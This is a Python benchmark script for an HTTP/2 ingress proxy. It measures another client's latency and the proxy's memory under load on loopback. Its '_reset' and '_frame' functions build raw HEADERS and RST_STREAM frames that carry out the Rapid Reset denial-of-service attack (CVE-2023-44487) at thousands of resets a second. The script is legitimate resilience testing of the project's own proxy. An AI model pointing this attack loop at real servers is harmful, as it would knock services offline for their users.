"""What an attack over HTTP/2 costs other clients of the in-process proxy, and what it makes the proxy hold.

    python benchmarks/http2_attacks.py [--seconds 5] [--resets 10000]

The proxy with its endpoint, the attacker and the other client are three processes on loopback. First the other
client alone asks at a steady pace; then beside an attacker who opens and resets streams (CVE-2023-44487), at
--resets a second, over connections that it makes again as they are ended; last, 5,000 streams on 50 connections
wait for their responses at a time. Printed: the 50th and 99th percentile of the other client, and the resident
memory of the proxy before, beside and after.
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import contextlib
import multiprocessing
import resource
import statistics
import struct
import time
from multiprocessing.connection import Connection
from multiprocessing.context import SpawnContext
from multiprocessing.sharedctypes import Synchronized
from pathlib import Path
from typing import Final

from ingresskit.graph import (
    Backend,
    BackendKey,
    Endpoint,
    Forward,
    PathMatch,
    Route,
    VirtualHost,
    WeightedBackend,
)
from ingresskit.models import ObjectKey, ObjectRef
from ingresskit.policies import Origin
from ingresskit.proxy import Proxy
from ingresskit.proxy.h2.engine import PREFACE
from ingresskit.render.inprocess import HostTable, RoutingTable, TargetMaker
from ingresskit.testing.http2 import Http2Client, request_fields

_HOST: Final = "shop.test"
_STREAMS, _CONNECTIONS = 100, 50
_BATCHES: Final = 100  # of the attacker, in a second
_PACE: Final = 0.002
_CANCEL: Final = b"\0\0\0\x08"


def main() -> None:
    """Measure, and print a line for each case."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--seconds", type=float, default=5.0, help="of each case")
    parser.add_argument("--resets", type=int, default=10_000, help="in a second")
    options = parser.parse_args()
    processes = multiprocessing.get_context("spawn")
    ours, theirs = processes.Pipe()
    proxy = processes.Process(target=_serve, args=(theirs,), daemon=True)
    proxy.start()
    port = int(ours.recv())
    try:
        asyncio.run(_measure(port, proxy.pid or 0, options, processes))
    finally:
        ours.send("end")
        proxy.join(10)


async def _measure(port: int, pid: int, options: argparse.Namespace, processes: SpawnContext) -> None:
    await _ask_steadily(port, 1.0)  # warm
    before = _resident(pid)
    alone = await _ask_steadily(port, options.seconds)
    print(f"alone: p50 {_at(alone, 50):.2f} ms, p99 {_at(alone, 99):.2f} ms; {before / 1e6:.1f} MB")
    sent = processes.Value("q", 0)
    attacker = processes.Process(target=_attack, args=(port, options.resets, sent), daemon=True)
    attacker.start()
    await _ask_steadily(port, 2.0)  # it has begun
    began, count = time.monotonic(), sent.value
    beside = await _ask_steadily(port, options.seconds)
    rate = (sent.value - count) / (time.monotonic() - began)
    during = _resident(pid)
    attacker.terminate()
    attacker.join(10)
    print(
        f"beside {rate:,.0f} resets a second: p50 {_at(beside, 50):.2f} ms, p99 {_at(beside, 99):.2f} ms"
        f" ({_at(beside, 99) / _at(alone, 99):.2f} of alone); {during / 1e6:.1f} MB"
    )
    async with contextlib.AsyncExitStack() as stack:
        clients = [
            await stack.enter_async_context(await Http2Client.connect("127.0.0.1", port))
            for _ in range(_CONNECTIONS)
        ]
        for client in clients:
            await client.ready()
        began = time.monotonic()
        opened = [
            (client, client.open(request_fields("/wait", host=_HOST)))
            for client in clients
            for _ in range(_STREAMS)
        ]
        await asyncio.sleep(3)
        held = _resident(pid)
        responses = [await client.response(stream) for client, stream in opened]
    statuses = dict(collections.Counter(response.status for response in responses))
    print(
        f"{len(opened)} streams at a time: responses by status {statuses}, {time.monotonic() - began:.1f} s;"
        f" {held / 1e6:.1f} MB, {(held - during) / len(opened):,.0f} octets each"
    )
    await asyncio.sleep(2)
    print(f"after: {_resident(pid) / 1e6:.1f} MB")


async def _ask_steadily(port: int, seconds: float) -> list[float]:
    """How long each of the requests of one client took, in milliseconds."""
    taken: list[float] = []
    async with await Http2Client.connect("127.0.0.1", port) as client:
        end = time.monotonic() + seconds
        while (began := time.monotonic()) < end:
            response = await client.ask("/", host=_HOST)
            assert response.status == 200
            taken.append((time.monotonic() - began) * 1000)
            await asyncio.sleep(_PACE)
    return taken


def _at(values: list[float], percent: int) -> float:
    return statistics.quantiles(values, n=100)[percent - 1]


def _resident(pid: int) -> int:
    text = Path(f"/proc/{pid}/status").read_text("ascii")
    return int(text.partition("VmRSS:")[2].split()[0]) * 1024


def _attack(port: int, rate: int, sent: Synchronized[int]) -> None:
    asyncio.run(_reset(port, rate, sent))


async def _reset(port: int, rate: int, sent: Synchronized[int]) -> None:
    """Open and reset streams without end: each batch is one write, and half of the resets come later."""
    block = b"\x82\x86\x84\x01" + bytes((len(_HOST),)) + _HOST.encode()
    start = PREFACE + _frame(4, 0, 0)
    size = max(1, rate // _BATCHES)
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.01)
            continue
        writer.write(start)
        draining = asyncio.ensure_future(reader.read())
        number, pending = 1, 0
        with contextlib.suppress(OSError):
            while not draining.done() and not writer.is_closing():
                frames: list[bytes] = []
                for index in range(size):
                    if index % 2:
                        frames += (_frame(1, 5, number, block), _frame(3, 0, number, _CANCEL))
                    else:
                        if pending:
                            frames.append(_frame(3, 0, pending, _CANCEL))
                        frames.append(_frame(1, 5, number, block))
                        pending = number
                    number += 2
                writer.write(b"".join(frames))
                await writer.drain()
                sent.value += size
                await asyncio.sleep(1 / _BATCHES)
        writer.transport.abort()
        draining.cancel()
        with contextlib.suppress(asyncio.CancelledError, OSError):
            await draining


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes((kind, flags)) + struct.pack("!I", stream) + payload


def _serve(pipe: Connection) -> None:
    import uvloop

    uvloop.run(_serve_until_told(pipe))


async def _serve_until_told(pipe: Connection) -> None:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            while head := await reader.readuntil(b"\r\n\r\n"):
                if b" /wait " in head:
                    await asyncio.sleep(6)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0, backlog=4096)
    key = BackendKey("shop", "web", 80)
    backend = Backend(
        key=key, endpoints=(Endpoint(address="127.0.0.1", port=server.sockets[0].getsockname()[1]),)
    )
    origin = Origin(ObjectRef("Ingress", ObjectKey("shop", "web")), "spec")
    route = Route(match=PathMatch.prefix("/"), action=Forward(backends=(WeightedBackend(key),)), origin=origin)
    target = TargetMaker(VirtualHost(host=_HOST, routes=(route,))).target(route)
    async with Proxy() as proxy:
        proxy.swap(
            RoutingTable(
                hosts={_HOST: HostTable(host=_HOST, exact={}, prefixes={target.matched: target})},
                backends={key: backend},
            )
        )
        listener = await proxy.listen("127.0.0.1", 0)
        pipe.send(listener.address[1])
        await asyncio.to_thread(pipe.recv)


if __name__ == "__main__":
    main()
